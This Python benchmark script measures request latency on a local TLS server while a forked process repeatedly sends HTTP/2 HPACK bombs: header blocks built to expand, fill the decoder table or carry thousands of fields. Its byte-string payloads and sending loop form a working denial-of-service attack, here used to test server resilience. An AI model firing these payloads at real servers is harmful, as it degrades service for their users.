"""How long another client's requests take while an attacker sends HPACK bombs on one connection after another.

The other client opens a TLS connection for each request, one every 20 ms. The attacker is a second process: with
`--direction up` it sends header blocks that expand, or that consist of thousands of short fields, until the server
closes the connection, and connects again; with `down` it only connects, makes one ordinary request, and connects
again. `--connections 0` leaves it out. It reports the median and the 99th percentile in milliseconds, and how many
connections and bytes the attacker sent per second.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import ssl
import statistics
import struct
import sys
import time
from collections.abc import Iterator
from itertools import cycle, islice

from benchmarks.load.driver import Options, options, trusting_context, wait_for_go

REQUEST = b"GET / HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
GET = b"\x82\x87\x84\x41\x09localhost"
ENTRY = b"\x40\x03bom\x7f" + bytes([(3900 - 127) & 127 | 128, (3900 - 127) >> 7]) + b"a" * 3900
BOMBS = (
    b"\xbe" * 12_000,  # references to one large entry
    b"\x41\x00" * 8_000,  # insertions
    b"\x01\x00" * 8_000,  # literals
    b"\x82\x01\x00" * 5_000,  # references and literals in turn
    b"\x01\x00" * 160,  # somewhat too many fields
)
EVERY = 0.02


def headers(id: int, block: bytes) -> bytes:
    """HEADERS that ends its header block and its stream."""
    return struct.pack(">I", len(block))[1:] + b"\x01\x05" + struct.pack(">I", id) + block


def connect(given: Options, protocol: str) -> ssl.SSLSocket:
    """A TLS connection that speaks one protocol."""
    context = trusting_context()
    context.minimum_version = ssl.TLSVersion.TLSv1_2  # nginx speaks no other by default
    context.set_alpn_protocols([protocol])
    sock = socket.create_connection(given.address, 10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return context.wrap_socket(sock, server_hostname="localhost")


def attack(given: Options, out: int) -> None:
    """Write the size of what each connection sent to a pipe, until the process is ended."""
    for bomb in cycle(BOMBS):
        sent = 0
        blocks = [ENTRY, *islice(cycle([bomb]), 10_000)] if given.direction == "up" else [b""]
        try:
            with connect(given, "h2") as sock:
                for data in _frames(blocks):
                    sock.sendall(data)
                    sent += len(data)
                    if _is_closed(sock, 0.0005 if given.direction == "up" else 10):
                        break
        except OSError:
            pass
        os.write(out, struct.pack(">I", sent))


def _frames(blocks: list[bytes]) -> Iterator[bytes]:
    yield PREFACE
    for at, block in enumerate(blocks):
        yield headers(2 * at + 1, GET + block)


def _is_closed(sock: ssl.SSLSocket, seconds: float) -> bool:
    """Read what has come; whether that is the end."""
    sock.settimeout(seconds)
    try:
        return not sock.recv(65_536)
    except TimeoutError:
        return False
    finally:
        sock.settimeout(5)


def delays(given: Options) -> Iterator[float]:
    """How long requests take, in milliseconds, each with its connection and handshake."""
    for _ in range(given.amount):
        begun = time.perf_counter()
        with connect(given, "http/1.1") as sock:
            sock.sendall(REQUEST)
            answer = b""
            while data := sock.recv(65_536):
                answer += data
        if not answer.startswith(b"HTTP/1.1 200"):
            raise ConnectionError(f"the answer is {answer[:60]!r}")
        took = time.perf_counter() - begun
        yield took * 1000
        time.sleep(max(0.0, EVERY - took))


def main() -> None:
    given = options()
    inward, outward = os.pipe()
    child = 0
    if given.connections:
        child = os.fork()
        if not child:
            signal.alarm(int(given.seconds) + 120)
            attack(given, outward)
    os.set_blocking(inward, False)
    wait_for_go()
    try:
        begun = time.monotonic()
        found = sorted(delays(given))
        seconds = time.monotonic() - begun
    finally:
        if child:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    sizes = _sizes(inward)
    figures = {
        "median": statistics.median(found),
        "most": found[len(found) * 99 // 100],
        "connections": len(sizes) / seconds,
        "bytes": sum(sizes) / seconds,
        "seconds": seconds,
    }
    print(json.dumps({"units": given.amount, **figures}), flush=True)
    sys.stdin.readline()


def _sizes(pipe: int) -> list[int]:
    try:
        data = os.read(pipe, 1 << 20)
    except BlockingIOError:
        return []
    return [size for (size,) in struct.iter_unpack(">I", data[: len(data) // 4 * 4])]


if __name__ == "__main__":
    main()
